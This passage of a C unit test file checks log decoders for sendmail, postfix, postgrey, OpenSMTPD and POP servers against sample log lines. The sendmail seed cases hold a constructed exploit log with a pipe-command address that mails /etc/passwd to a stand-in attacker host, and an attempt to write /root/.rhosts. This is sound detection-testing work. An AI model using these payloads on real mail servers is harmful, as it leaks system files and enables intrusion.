/*
 * test_decode_mail.c - the mail and file-transfer decoders: sendmail and
 * postfix (with postgrey and OpenSMTPD), the POP/IMAP servers, the FTP
 * servers with xferlog, and the web access log.
 *
 * Every case is a whole log line, framed by ks_frame_line and decoded by
 * ks_decode, as the pipeline does it; the case names the decoder that
 * must claim it and every field that must be set, and no other field may
 * be set.  The line is copied into a buffer of its exact length first, so
 * that a decoder reading past the message trips the address sanitizer.
 * Lines of other daemons must not be claimed by these decoders.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "decode/decode.h"

struct kv {
	enum ks_field k;
	const char *v;          /* NULL ends the list */
};

struct tcase {
	const char *line;
	const char *decoder;
	struct kv want[14];
};

#define F(k, v) { KS_F_##k, v }
#define ACT(a, o) F(EVENT_ACTION, a), F(EVENT_OUTCOME, o)

static struct ks_tz tz;

static int
setup(void **state)
{
	(void)state;
	assert_int_equal(ks_tz_init(&tz, "UTC", NULL), 0);
	return 0;
}

/*
 * Frames and decodes line from an exact-length copy; returns the
 * decoder's name, or NULL when nothing decoded.  A line that does not
 * frame is decoded as a bare message, as for a program-less stream.
 */
static const char *
decode(const char *line, struct ks_fields *f, char **copy)
{
	struct ks_framer fr;
	struct ks_event ev;
	size_t n = strlen(line);

	*copy = malloc(n ? n : 1);
	assert_non_null(*copy);
	memcpy(*copy, line, n);
	ks_framer_init(&fr, &tz, 2003, true);
	if (!ks_frame_line(&fr, *copy, n, &ev)) {
		memset(&ev, 0, sizeof(ev));
		ev.message = ks_str_make(*copy, n);
		ev.raw = ev.message;
		ev.pid = -1;
		ev.facility = ev.severity = -1;
	}
	if (!ks_decode(&ev, f))
		return NULL;
	return ks_decoder_name(f->decoder);
}

static void
check(const struct tcase *c)
{
	struct ks_fields f;
	const char *got;
	char *copy, buf[1024];
	bool wanted[KS_F_COUNT] = { false };

	got = decode(c->line, &f, &copy);
	if (got == NULL || strcmp(got, c->decoder) != 0)
		fail_msg("%s\n  decoded by %s, want %s", c->line,
		    got ? got : "none", c->decoder);
	for (const struct kv *w = c->want; w->v != NULL; w++) {
		struct ks_str v = f.v[w->k];

		wanted[w->k] = true;
		assert_true(v.n < sizeof(buf));
		memcpy(buf, v.p ? v.p : "", v.n);
		buf[v.n] = '\0';
		if (strcmp(buf, w->v) != 0)
			fail_msg("%s\n  %s is \"%s\", want \"%s\"", c->line,
			    ks_field_name(w->k), buf, w->v);
	}
	for (int k = 0; k < KS_F_COUNT; k++)
		if (!wanted[k] && f.v[k].n > 0)
			fail_msg("%s\n  %s is set (\"%.*s\"), want absent",
			    c->line, ks_field_name((enum ks_field)k),
			    (int)f.v[k].n, f.v[k].p);
	free(copy);
}

static void
check_all(const struct tcase *c, size_t n)
{
	for (size_t i = 0; i < n; i++)
		check(&c[i]);
}

#define CHECK_ALL(a) check_all(a, sizeof(a) / sizeof(a[0]))

static bool
mine(const char *name)
{
	return name != NULL && (strcmp(name, "sendmail") == 0 ||
	    strcmp(name, "postfix") == 0 || strcmp(name, "mailbox") == 0 ||
	    strcmp(name, "ftpd") == 0 || strcmp(name, "http") == 0);
}

/* The line is not claimed by any of these decoders. */
static void
not_mine(const char *line)
{
	struct ks_fields f;
	char *copy;
	const char *got = decode(line, &f, &copy);

	if (mine(got))
		fail_msg("%s\n  claimed by %s", line, got);
	free(copy);
}

/* ---- sendmail --------------------------------------------------------- */

/* tests/data/samples/constructed-sendmail-exploit.log, line by line */
static const struct tcase sendmail_seed[] = {
	{ "Jan  3 02:11:45 mailhost sendmail[4211]: CAA04211: from=<|/bin/mail intruder@evil.example < /etc/passwd>, size=0, class=0, pri=0, nrcpts=1, proto=SMTP, relay=evil.example [203.0.113.9]",
	  "sendmail", { ACT("mail-from", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "CAA04211"),
	  F(EMAIL_FROM_ADDRESS, "|/bin/mail intruder@evil.example < /etc/passwd"),
	  F(SOURCE_IP, "203.0.113.9"), F(SOURCE_DOMAIN, "evil.example") } },
	{ "Jan  3 02:11:46 mailhost sendmail[4212]: CAA04211: to=|/bin/mail intruder@evil.example < /etc/passwd, delay=00:00:01, xdelay=00:00:00, mailer=prog, stat=Sent",
	  "sendmail", { ACT("mail-to", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "CAA04211"),
	  F(EMAIL_TO_ADDRESS, "|/bin/mail intruder@evil.example < /etc/passwd"),
	  F(EMAIL_MAILER, "prog"), F(EMAIL_STATUS, "Sent") } },
	{ "Jan  3 02:15:02 mailhost sendmail[4230]: CAA04230: from=<bin>, size=12, class=0, pri=30012, nrcpts=1, proto=SMTP, relay=evil.example [203.0.113.9]",
	  "sendmail", { ACT("mail-from", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "CAA04230"),
	  F(EMAIL_FROM_ADDRESS, "bin"),
	  F(SOURCE_IP, "203.0.113.9"), F(SOURCE_DOMAIN, "evil.example") } },
	{ "Jan  3 02:15:02 mailhost sendmail[4231]: CAA04230: to=/root/.rhosts, delay=00:00:00, mailer=*file*, stat=Deferred: Permission denied",
	  "sendmail", { ACT("mail-to", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "CAA04230"),
	  F(EMAIL_TO_ADDRESS, "/root/.rhosts"), F(EMAIL_MAILER, "*file*"),
	  F(EMAIL_STATUS, "Deferred: Permission denied") } },
	{ "Jan  3 03:00:00 mailhost sendmail[4300]: DAA04300: from=<alice@ash.or.jp>, size=2048, class=0, pri=32048, nrcpts=1, proto=ESMTP, relay=pc27.ash.or.jp [192.0.2.27]",
	  "sendmail", { ACT("mail-from", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "DAA04300"),
	  F(EMAIL_FROM_ADDRESS, "alice@ash.or.jp"),
	  F(SOURCE_IP, "192.0.2.27"), F(SOURCE_DOMAIN, "pc27.ash.or.jp") } },
	{ "Jan  3 03:00:01 mailhost sendmail[4301]: DAA04300: to=<bob@example.org>, delay=00:00:01, xdelay=00:00:01, mailer=esmtp, relay=mx.example.org. [198.51.100.25], stat=Sent (Ok)",
	  "sendmail", { ACT("mail-to", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "DAA04300"),
	  F(EMAIL_TO_ADDRESS, "bob@example.org"), F(EMAIL_MAILER, "esmtp"),
	  F(EMAIL_STATUS, "Sent (Ok)"), F(DESTINATION_IP, "198.51.100.25"),
	  F(DESTINATION_DOMAIN, "mx.example.org") } },
};

static void
test_sendmail_seed(void **state)
{
	FILE *fp;
	char path[4096], line[4096];
	const char *dir = getenv("KS_TESTDATA");
	size_t i = 0;

	(void)state;
	CHECK_ALL(sendmail_seed);
	/* the file itself, so that the seed and the cases cannot drift */
	if (dir == NULL)
		return;
	snprintf(path, sizeof(path), "%s/samples/constructed-sendmail-exploit.log",
	    dir);
	assert_non_null(fp = fopen(path, "r"));
	while (fgets(line, sizeof(line), fp) != NULL) {
		line[strcspn(line, "\n")] = '\0';
		assert_true(i < sizeof(sendmail_seed) / sizeof(sendmail_seed[0]));
		assert_string_equal(line, sendmail_seed[i].line);
		i++;
	}
	fclose(fp);
	assert_int_equal(i, 6);
}

static const struct tcase sendmail_forms[] = {
	/* of two values of one key the last counts; a line with more pairs
	 * than the decoder keeps still gives its last ones */
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: DAA04241: to=<b@example.org>, mailer=local, relay=a.example [192.0.2.1], mailer=esmtp, relay=mx.example.org. [198.51.100.25], stat=Sent (ok)",
	  "sendmail", { ACT("mail-to", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "DAA04241"),
	  F(EMAIL_TO_ADDRESS, "b@example.org"), F(EMAIL_MAILER, "esmtp"),
	  F(EMAIL_STATUS, "Sent (ok)"), F(DESTINATION_IP, "198.51.100.25"),
	  F(DESTINATION_DOMAIN, "mx.example.org") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: DAA04242: to=<b@example.org>, mailer=esmtp, pri=0, pri=1, pri=2, pri=3, pri=4, pri=5, pri=6, pri=7, pri=8, pri=9, pri=10, pri=11, pri=12, pri=13, pri=14, pri=15, pri=16, pri=17, pri=18, pri=19, pri=20, pri=21, pri=22, pri=23, pri=24, pri=25, pri=26, pri=27, pri=28, pri=29, pri=30, pri=31, pri=32, pri=33, pri=34, pri=35, pri=36, pri=37, pri=38, pri=39, relay=mx.example.org. [198.51.100.25], stat=Sent (ok)",
	  "sendmail", { ACT("mail-to", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "DAA04242"),
	  F(EMAIL_TO_ADDRESS, "b@example.org"),
	  F(EMAIL_STATUS, "Sent (ok)"), F(DESTINATION_IP, "198.51.100.25"),
	  F(DESTINATION_DOMAIN, "mx.example.org") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: CAA04240: ruleset=check_rcpt, arg1=<victim@elsewhere.example>, relay=evil.example [203.0.113.9], reject=550 5.7.1 <victim@elsewhere.example>... Relaying denied",
	  "sendmail", { ACT("mail-reject", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "CAA04240"),
	  F(EMAIL_TO_ADDRESS, "victim@elsewhere.example"),
	  F(EMAIL_STATUS, "550 5.7.1 <victim@elsewhere.example>... Relaying denied"),
	  F(SOURCE_IP, "203.0.113.9"), F(SOURCE_DOMAIN, "evil.example") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: NOQUEUE: ruleset=check_mail, arg1=<x@bad.example>, relay=[203.0.113.9] (may be forged), reject=553 5.1.8 <x@bad.example>... Domain of sender address x@bad.example does not exist",
	  "sendmail", { ACT("mail-reject", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_FROM_ADDRESS, "x@bad.example"),
	  F(EMAIL_STATUS, "553 5.1.8 <x@bad.example>... Domain of sender address x@bad.example does not exist"),
	  F(SOURCE_IP, "203.0.113.9") } },
	{ "Jan  3 02:20:00 mailhost sm-mta[4240]: h03BK0Zk004240: ruleset=check_relay, arg1=host.example, arg2=192.0.2.1, relay=host.example [192.0.2.1], reject=550 5.7.1 Access denied",
	  "sendmail", { ACT("mail-reject", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(EMAIL_STATUS, "550 5.7.1 Access denied"),
	  F(SOURCE_IP, "192.0.2.1"), F(SOURCE_DOMAIN, "host.example") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: h03BK0Zk004240: from=<a@b.example>, size=10, class=0, nrcpts=1, msgid=<1@b.example>, proto=ESMTP, daemon=MTA, relay=ident@host.example [IPv6:2001:db8::1]",
	  "sendmail", { ACT("mail-from", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(EMAIL_FROM_ADDRESS, "a@b.example"),
	  F(SOURCE_IP, "2001:db8::1"), F(SOURCE_DOMAIN, "host.example") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: h03BK0Zk004240: from=root, size=10, class=0, nrcpts=1, msgid=<1@b.example>, relay=root@localhost",
	  "sendmail", { ACT("mail-from", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(EMAIL_FROM_ADDRESS, "root"), F(SOURCE_DOMAIN, "localhost") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: h03BK0Zk004240: from=<a@b.example>, size=10, class=0, nrcpts=1, proto=SMTP, relay=localhost [127.0.0.1]",
	  "sendmail", { ACT("mail-from", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(EMAIL_FROM_ADDRESS, "a@b.example"),
	  F(SOURCE_IP, "127.0.0.1"), F(SOURCE_DOMAIN, "localhost") } },
	/* an address holding a fake relay= stays whole; the real one counts */
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: h03BK0Zk004240: from=<x, relay=fake [10.9.9.9]>, size=1, nrcpts=1, relay=real.example [192.0.2.8]",
	  "sendmail", { ACT("mail-from", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(EMAIL_FROM_ADDRESS, "x, relay=fake [10.9.9.9]"),
	  F(SOURCE_IP, "192.0.2.8"), F(SOURCE_DOMAIN, "real.example") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: h03BK0Zk004240: to=<a@b.example>, ctladdr=<root> (0/0), delay=00:00:01, xdelay=00:00:01, mailer=esmtp, pri=120, relay=mx.b.example. [192.0.2.5], dsn=5.1.1, stat=User unknown",
	  "sendmail", { ACT("mail-to", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(EMAIL_TO_ADDRESS, "a@b.example"), F(EMAIL_MAILER, "esmtp"),
	  F(EMAIL_STATUS, "User unknown"), F(DESTINATION_IP, "192.0.2.5"),
	  F(DESTINATION_DOMAIN, "mx.b.example") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: h03BK0Zk004240: to=<a@b.example>, delay=00:00:01, mailer=esmtp, relay=[192.0.2.5], stat=Deferred: Connection refused by [192.0.2.5]",
	  "sendmail", { ACT("mail-to", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(EMAIL_TO_ADDRESS, "a@b.example"), F(EMAIL_MAILER, "esmtp"),
	  F(EMAIL_STATUS, "Deferred: Connection refused by [192.0.2.5]"),
	  F(DESTINATION_IP, "192.0.2.5") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: h03BK0Zk004240: to=bob, delay=00:00:01, mailer=local, stat=queued",
	  "sendmail", { ACT("mail-to", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(EMAIL_TO_ADDRESS, "bob"), F(EMAIL_MAILER, "local"),
	  F(EMAIL_STATUS, "queued") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: AUTH failure (LOGIN): authentication failure (-13) SASL(-13): authentication failure: checkpass failed, user=bob, relay=[192.0.2.7]",
	  "sendmail", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.7") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: h03BK0Zk004240: AUTH=server, relay=host.example [192.0.2.7], authid=bob, mech=LOGIN, bits=0",
	  "sendmail", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(USER_NAME, "bob"), F(SOURCE_IP, "192.0.2.7"),
	  F(SOURCE_DOMAIN, "host.example") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: h03BK0Zk004240: host.example [192.0.2.7] did not issue MAIL/EXPN/VRFY/ETRN during connection to MTA",
	  "sendmail", { ACT("probe", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(SOURCE_IP, "192.0.2.7"), F(SOURCE_DOMAIN, "host.example") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: h03BK0Zk004240: [192.0.2.7] did not issue MAIL/EXPN/VRFY/ETRN during connection to MTA",
	  "sendmail", { ACT("probe", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(SOURCE_IP, "192.0.2.7") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: h03BK0Zk004240: host.example [192.0.2.7]: VRFY root [rejected]",
	  "sendmail", { ACT("probe", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(USER_NAME, "root"), F(SOURCE_IP, "192.0.2.7"),
	  F(SOURCE_DOMAIN, "host.example") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: h03BK0Zk004240: host.example [192.0.2.7]: possible SMTP attack: command=HELO, count=3",
	  "sendmail", { ACT("probe", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(SOURCE_IP, "192.0.2.7"), F(SOURCE_DOMAIN, "host.example") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: NOQUEUE: connect from host.example [192.0.2.7]",
	  "sendmail", { ACT("connection", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "192.0.2.7"),
	  F(SOURCE_DOMAIN, "host.example") } },
	{ "Jan  3 02:20:00 mailhost sendmail[4240]: h03BK0Zk004240: lost input channel from host.example [192.0.2.7] to MTA after rcpt",
	  "sendmail", { ACT("disconnect", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "h03BK0Zk004240"),
	  F(SOURCE_IP, "192.0.2.7"), F(SOURCE_DOMAIN, "host.example") } },
	/* sshguard's case: the tail of a check_rcpt reject */
	{ "Relaying denied. IP name lookup failed [6.6.6.0]",
	  "sendmail", { ACT("mail-reject", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "6.6.6.0") } },
	{ "Relaying denied. IP name lookup failed [2001:db8::a11:beef:7ac0]",
	  "sendmail", { ACT("mail-reject", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "2001:db8::a11:beef:7ac0") } },
};

static void
test_sendmail_forms(void **state)
{
	(void)state;
	CHECK_ALL(sendmail_forms);
}

/* ---- postfix ---------------------------------------------------------- */

static const struct tcase postfix_forms[] = {
	{ "Jan  3 02:20:00 mx postfix/smtpd[1]: connect from host.example[192.0.2.1]",
	  "postfix", { ACT("connection", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "192.0.2.1"),
	  F(SOURCE_DOMAIN, "host.example") } },
	{ "Jan  3 02:20:00 mx postfix/smtpd[1]: disconnect from unknown[192.0.2.1] ehlo=1 auth=0/1 quit=1 commands=2/3",
	  "postfix", { ACT("disconnect", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "192.0.2.1") } },
	{ "Jan  3 02:20:00 mx postfix/smtpd[1]: 3F2A81E04C: client=host.example[192.0.2.1], sasl_method=PLAIN, sasl_username=bob",
	  "postfix", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "3F2A81E04C"),
	  F(USER_NAME, "bob"), F(SOURCE_IP, "192.0.2.1"),
	  F(SOURCE_DOMAIN, "host.example") } },
	{ "Jan  3 02:20:00 mx postfix/smtpd[1]: 3F2A81E04C: client=unknown[2001:db8::7]",
	  "postfix", { ACT("connection", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "3F2A81E04C"),
	  F(SOURCE_IP, "2001:db8::7") } },
	{ "Jan  3 02:20:00 mx postfix/smtpd[1]: NOQUEUE: reject: RCPT from unknown[203.0.113.9]: 554 5.7.1 <v@elsewhere.example>: Relay access denied; from=<spam@evil.example> to=<v@elsewhere.example> proto=ESMTP helo=<evil>",
	  "postfix", { ACT("mail-reject", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "203.0.113.9"),
	  F(EMAIL_FROM_ADDRESS, "spam@evil.example"),
	  F(EMAIL_TO_ADDRESS, "v@elsewhere.example"),
	  F(EMAIL_STATUS, "554 5.7.1 <v@elsewhere.example>: Relay access denied") } },
	{ "Jan  3 02:20:00 mx postfix/cleanup[1]: 3F2A81E04C: milter-reject: END-OF-MESSAGE from host[192.0.2.1]: 5.7.1 Spam; from=<a@b> to=<c@d> proto=ESMTP helo=<x>",
	  "postfix", { ACT("mail-reject", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "3F2A81E04C"),
	  F(SOURCE_IP, "192.0.2.1"), F(SOURCE_DOMAIN, "host"),
	  F(EMAIL_FROM_ADDRESS, "a@b"), F(EMAIL_TO_ADDRESS, "c@d"),
	  F(EMAIL_STATUS, "5.7.1 Spam") } },
	{ "Oct 19 19:56:07 longbeach postfix/smtpd[2309]: warning: unknown[199.19.110.207]: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
	  "postfix", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "199.19.110.207") } },
	{ "Jan  3 02:20:00 mx postfix/smtpd[1]: warning: host.example[203.0.113.9]: SASL PLAIN authentication failed: authentication failure, sasl_username=admin",
	  "postfix", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "203.0.113.9"),
	  F(SOURCE_DOMAIN, "host.example"), F(USER_NAME, "admin") } },
	{ "2022-04-14T00:36:03.150Z mailhub postfix/smtps/smtpd[30543]: warning: unknown[122.166.249.154]:48123: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
	  "postfix", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "122.166.249.154"),
	  F(SOURCE_PORT, "48123") } },
	{ "Jun 21 12:00:56 acme postfix/submission/smtpd[20201]: warning: non-SMTP command from unknown[1.2.3.4]: GET / HTTP/1.1",
	  "postfix", { ACT("probe", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "1.2.3.4") } },
	{ "Dec 13 09:32:50 marcos postfix/smtpd[24754]: lost connection after AUTH from rrcs-24-213-217-114.nys.biz.rr.com[24.213.217.114]",
	  "postfix", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "24.213.217.114"),
	  F(SOURCE_DOMAIN, "rrcs-24-213-217-114.nys.biz.rr.com") } },
	{ "Jan  3 02:20:00 mx postfix/smtpd[1]: lost connection after CONNECT from unknown[2606:2800:220:1:248:1893:25c8:1946]",
	  "postfix", { ACT("probe", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"),
	  F(SOURCE_IP, "2606:2800:220:1:248:1893:25c8:1946") } },
	{ "Jan  3 02:20:00 mx postfix/smtpd[1]: lost connection after DATA (0 bytes) from host.example[192.0.2.1]",
	  "postfix", { ACT("disconnect", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "192.0.2.1"),
	  F(SOURCE_DOMAIN, "host.example") } },
	{ "Jan  3 02:20:00 mx postfix/qmgr[1]: 3F2A81E04C: from=<a@b.example>, size=1234, nrcpt=1 (queue active)",
	  "postfix", { ACT("mail-from", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "3F2A81E04C"),
	  F(EMAIL_FROM_ADDRESS, "a@b.example") } },
	{ "Jan  3 02:20:00 mx postfix/pickup[1]: 3F2A81E04C: uid=0 from=<root>",
	  "postfix", { ACT("mail-from", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "3F2A81E04C"),
	  F(EMAIL_FROM_ADDRESS, "root") } },
	{ "Jan  3 02:20:00 mx postfix/smtp[1]: 3F2A81E04C: to=<c@d.example>, relay=mx.d.example[198.51.100.2]:25, delay=1.2, delays=0.1/0/0.5/0.6, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as 12345)",
	  "postfix", { ACT("mail-to", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "3F2A81E04C"),
	  F(EMAIL_TO_ADDRESS, "c@d.example"),
	  F(EMAIL_STATUS, "sent (250 2.0.0 Ok: queued as 12345)"),
	  F(DESTINATION_IP, "198.51.100.2"), F(DESTINATION_PORT, "25"),
	  F(DESTINATION_DOMAIN, "mx.d.example") } },
	{ "Jan  3 02:20:00 mx postfix/smtp[1]: 3F2A81E04C: to=<c@d.example>, relay=none, delay=30, delays=0.1/0/30/0, dsn=4.4.1, status=deferred (connect to d.example[198.51.100.2]:25: Connection timed out)",
	  "postfix", { ACT("mail-to", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "3F2A81E04C"),
	  F(EMAIL_TO_ADDRESS, "c@d.example"),
	  F(EMAIL_STATUS, "deferred (connect to d.example[198.51.100.2]:25: Connection timed out)") } },
	{ "Jan  3 02:20:00 mx postfix/local[1]: 3F2A81E04C: to=<root@mx>, orig_to=<root>, relay=local, delay=0.1, dsn=2.0.0, status=sent (delivered to mailbox)",
	  "postfix", { ACT("mail-to", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(EMAIL_LOCAL_ID, "3F2A81E04C"),
	  F(EMAIL_TO_ADDRESS, "root@mx"),
	  F(EMAIL_STATUS, "sent (delivered to mailbox)") } },
	{ "Jan  3 02:20:00 mx postfix/postscreen[1]: CONNECT from [192.0.2.1]:4321 to [192.0.2.2]:25",
	  "postfix", { ACT("connection", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "192.0.2.1"),
	  F(SOURCE_PORT, "4321"), F(DESTINATION_IP, "192.0.2.2"),
	  F(DESTINATION_PORT, "25") } },
	{ "Sep  6 11:47:43 poseidon postfix/postscreen[14766]: PREGREET 14 after 0.04 from [1.2.3.4]:55868: EHLO ylmf-pc\\r\\n",
	  "postfix", { ACT("probe", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "1.2.3.4"),
	  F(SOURCE_PORT, "55868") } },
	{ "Sep 10 07:01:57 poseidon postfix/postscreen[25914]: DNSBL rank 3 for [1.2.3.4]:64273",
	  "postfix", { ACT("probe", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "1.2.3.4"),
	  F(SOURCE_PORT, "64273") } },
	{ "Sep  6 11:47:43 poseidon postfix/postscreen[14766]: HANGUP after 0.07 from [1.2.3.4]:55868 in tests after SMTP handshake",
	  "postfix", { ACT("probe", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "1.2.3.4"),
	  F(SOURCE_PORT, "55868") } },
	{ "Jan  3 02:20:00 mx postfix/postscreen[1]: PASS NEW [192.0.2.1]:4321",
	  "postfix", { ACT("connection", "success"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "192.0.2.1"),
	  F(SOURCE_PORT, "4321") } },
	{ "Jan  3 02:20:00 mx postfix/postscreen[1]: NOQUEUE: reject: RCPT from [192.0.2.1]:4321: 550 5.7.1 Service unavailable; client [192.0.2.1] blocked using zen.spamhaus.org; from=<a@b>, to=<c@d>, proto=ESMTP, helo=<x>",
	  "postfix", { ACT("mail-reject", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "192.0.2.1"),
	  F(SOURCE_PORT, "4321"), F(EMAIL_FROM_ADDRESS, "a@b"),
	  F(EMAIL_TO_ADDRESS, "c@d"),
	  F(EMAIL_STATUS, "550 5.7.1 Service unavailable; client [192.0.2.1] blocked using zen.spamhaus.org") } },
	/* postgrey, the greylisting policy server */
	{ "Jun 20 16:46:17 ares postgrey[919]: action=greylist, reason=early-retry (295s missing), client_name=r244.mail.kbc.be, client_address=172.82.231.244, sender=bounce@mail.kbc.be, recipient=lilydehoux@zeelandned.nl",
	  "postfix", { ACT("mail-reject", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "172.82.231.244"),
	  F(SOURCE_DOMAIN, "r244.mail.kbc.be"),
	  F(EMAIL_FROM_ADDRESS, "bounce@mail.kbc.be"),
	  F(EMAIL_TO_ADDRESS, "lilydehoux@zeelandned.nl") } },
	/* OpenSMTPD, 6.0 and 6.4 forms */
	{ "38dd06274cde1fd7 smtp event=failed-command address=185.236.202.133 host=no-mans-land.m247.com command=\"AUTH LOGIN\" result=\"503 5.5.1 Invalid command: Command not supported\"",
	  "postfix", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "185.236.202.133"),
	  F(SOURCE_DOMAIN, "no-mans-land.m247.com"),
	  F(EMAIL_STATUS, "503 5.5.1 Invalid command: Command not supported") } },
	{ "Jan  3 02:20:00 mx smtpd[1]: 38dd06274cde1fd7 smtp connected address=192.0.2.1 host=h.example",
	  "postfix", { ACT("connection", "unknown"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "192.0.2.1"),
	  F(SOURCE_DOMAIN, "h.example") } },
	{ "Jan  3 02:20:00 mx smtpd[1]: 38dd06274cde1fd7 smtp authentication user=bob address=192.0.2.1 host=h.example result=permfail",
	  "postfix", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(SOURCE_IP, "192.0.2.1"),
	  F(SOURCE_DOMAIN, "h.example"), F(USER_NAME, "bob") } },
};

static void
test_postfix(void **state)
{
	(void)state;
	CHECK_ALL(postfix_forms);
}

/* ---- POP and IMAP ----------------------------------------------------- */

static const struct tcase popper_forms[] = {
	/* seed 004, site B: a connection that said nothing, a scan */
	{ "Jun 23 12:34:00 bsite popper[13]: @[192.168.100.1]: -ERR POP EOF received",
	  "mailbox", { ACT("probe", "unknown"),
